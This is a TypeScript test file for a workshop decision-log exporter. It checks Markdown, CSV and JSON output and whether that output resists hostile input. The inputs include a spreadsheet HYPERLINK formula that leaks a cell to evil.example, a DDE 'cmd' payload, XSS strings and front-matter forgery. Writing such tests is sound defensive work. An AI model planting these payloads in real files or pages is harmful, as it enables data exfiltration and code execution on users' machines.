import { describe, expect, it } from 'vitest'
import {
  type DecisionLogSource,
  decisionsToCsv,
  decisionsToJson,
  decisionsToMarkdown,
} from '../../shared/export/decisionLog.ts'
import type { DecisionRecord } from '../../shared/schema/decisions.ts'

const DAY = Date.UTC(2026, 10, 22)

const adopted: DecisionRecord = {
  id: 'd1',
  title: 'Jumelage « patient partenaire »',
  context: 'Beaucoup d’aînés vivent seuls.',
  options: ['Jumelage', 'Groupe d’entraide'],
  decision: 'Essayer le jumelage pendant six mois.',
  rationale: 'Les patients partenaires connaissent le quartier.',
  dissent: [{ text: 'objection', reason: 'Charge pour les bénévoles, "à surveiller"' }],
  participants: { patient: 3, citizen: 2, clinician: 2, other: 0 },
  support: {
    phaseId: 'ronde',
    result: {
      kind: 'consent',
      closed: true,
      voters: 7,
      counts: { consent: 6, concern: 0, objection: 1 },
      groups: { shown: ['patient'], folded: ['citizen', 'clinician'] },
      byGroup: { patient: { consent: 3, concern: 0, objection: 0 } },
      otherGroups: { consent: 3, concern: 0, objection: 1 },
      reasons: [{ value: 'objection', reason: 'Charge pour les bénévoles' }],
    },
  },
  links: { notes: [], actions: [], version: null },
  reviewDate: '2027-05-22',
  status: 'adopted',
  supersededBy: null,
  history: [
    { status: 'proposed', at: DAY },
    { status: 'adopted', at: DAY },
  ],
  createdAt: DAY,
}

const source: DecisionLogSource = {
  workshop: { id: 'w1', title: 'Comité de pilotage', locale: 'fr' },
  decisions: [adopted],
}

describe('decision log exports of a known workshop', () => {
  it('writes Markdown with a front matter per decision', () => {
    expect(decisionsToMarkdown(source)).toBe(`# Journal des décisions — Comité de pilotage

---
id: d1
title: "Jumelage « patient partenaire »"
status: adopted
date: 2026-11-22
review-date: 2027-05-22
---

## Jumelage « patient partenaire » (adoptée)

### Contexte

Beaucoup d’aînés vivent seuls.

### Options envisagées

- Jumelage
- Groupe d’entraide

### Décision

Essayer le jumelage pendant six mois.

### Justification

Les patients partenaires connaissent le quartier.

### Désaccords et préoccupations

- objection: Charge pour les bénévoles, "à surveiller"

### Participation par groupe de partenaires

- Patients partenaires: 3
- Citoyens partenaires: 2
- Cliniciens partenaires: 2

### Vote à l’appui

ronde: consent 6, concern 0, objection 1 (7)

### Historique

- 2026-11-22: proposée
- 2026-11-22: adoptée
`)
    expect(decisionsToMarkdown({ ...source, decisions: [] })).toContain(
      'Aucune décision pour l’instant.',
    )
  })

  it('writes one CSV row per decision, quoted, with a BOM for spreadsheets', () => {
    const csv = decisionsToCsv(source)
    expect(csv.startsWith('\uFEFF')).toBe(true)
    const [header, row, end] = csv.slice(1).split('\r\n')
    expect(header).toBe(
      'id,title,status,date,review_date,superseded_by,context,options,decision,rationale,dissent,participants_patient,participants_citizen,participants_clinician,participants_other,support',
    )
    expect(row).toBe(
      'd1,Jumelage « patient partenaire »,adopted,2026-11-22,2027-05-22,,Beaucoup d’aînés vivent seuls.,Jumelage | Groupe d’entraide,Essayer le jumelage pendant six mois.,Les patients partenaires connaissent le quartier.,"objection: Charge pour les bénévoles, ""à surveiller""",3,2,2,0,"ronde: consent 6, concern 0, objection 1 (7)"',
    )
    expect(end).toBe('')
  })

  it('writes versioned JSON with the records as they are', () => {
    expect(decisionsToJson(source)).toEqual({
      format: 'fabrique.decisions',
      version: 1,
      workshop: { id: 'w1', title: 'Comité de pilotage' },
      decisions: [adopted],
    })
  })
})

describe('decision log exports are inert', () => {
  const hostile: DecisionRecord = {
    ...adopted,
    id: 'd2',
    title: '=HYPERLINK("https://evil.example/?leak="&A1,"Cliquez")',
    context:
      '<img src=x onerror=alert(1)> [clic](javascript:alert(1)) ![](https://evil.example/pixel.png)',
    options: ["+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'],
    decision: '<script>alert(1)</script>',
    rationale: 'Voir https://exemple.org/plan et <a href="javascript:alert(1)">ici</a>',
    dissent: [],
  }
  const log: DecisionLogSource = { ...source, decisions: [hostile] }

  it('CSV: no cell starts with =, +, -, @, tab or CR (OWASP CSV injection)', () => {
    for (const text of [hostile.title, ...hostile.options]) {
      const csv = decisionsToCsv({ ...log, decisions: [{ ...hostile, options: [text] }] })
      // The cell (quoted or not) starts with a quote mark, never with the text itself.
      expect(csv, JSON.stringify(text)).toContain(`'${text.replace(/"/g, '""')}`)
      expect(csv, JSON.stringify(text)).not.toContain(`,${text}`)
      expect(csv, JSON.stringify(text)).not.toContain(`,"${text.replace(/"/g, '""')}`)
    }
    // A carriage return inside a cell is quoted: it never starts a row of its own.
    const csv = decisionsToCsv({ ...log, decisions: [{ ...hostile, options: ['\r=1+1'] }] })
    expect(csv).toContain(`"'\r=1+1"`)
  })

  it('Markdown: no raw HTML, no link but http(s) and mailto, no remote image', () => {
    const md = decisionsToMarkdown(log)
    expect(md).not.toMatch(/<img|<script|<a /i)
    expect(md).not.toMatch(/\]\(javascript:/i)
    expect(md).not.toContain('![')
    // Plain addresses stay as they are, for a reader to follow.
    expect(md).toContain('https://exemple.org/plan')
  })

  it('Markdown: what people wrote stays inside its section (no front matter, heading or rule)', () => {
    const forged = '\n---\nid: forged\nstatus: adopted\n---\n## Décision falsifiée\n==='
    const md = decisionsToMarkdown({
      ...log,
      decisions: [
        {
          ...hostile,
          id: 'd3\nstatus: rejected',
          title: `Titre${forged}`,
          context: `Contexte${forged}`,
          options: [`Option${forged}`],
          decision: `Décision\r---\r`,
          supersededBy: 'd1\n---',
        },
      ],
    })
    const lines = md.split('\n')
    // One front matter block for one decision: two delimiter lines, one id and one status.
    const delimiters = lines.flatMap((line, i) => (line === '---' ? [i] : []))
    expect(delimiters).toHaveLength(2)
    const front = lines.slice((delimiters[0] ?? 0) + 1, delimiters[1])
    expect(front.filter((line) => line.startsWith('status:'))).toEqual(['status: adopted'])
    expect(front.filter((line) => line.startsWith('id:'))).toEqual(['id: "d3\\nstatus: rejected"'])
    expect(lines.filter((line) => line.startsWith('## '))).toHaveLength(1)
    expect(lines.some((line) => /^\s*(={3,}|-{3,}|\+{3,})\s*$/.test(line) && line !== '---')).toBe(
      false,
    )
  })
})
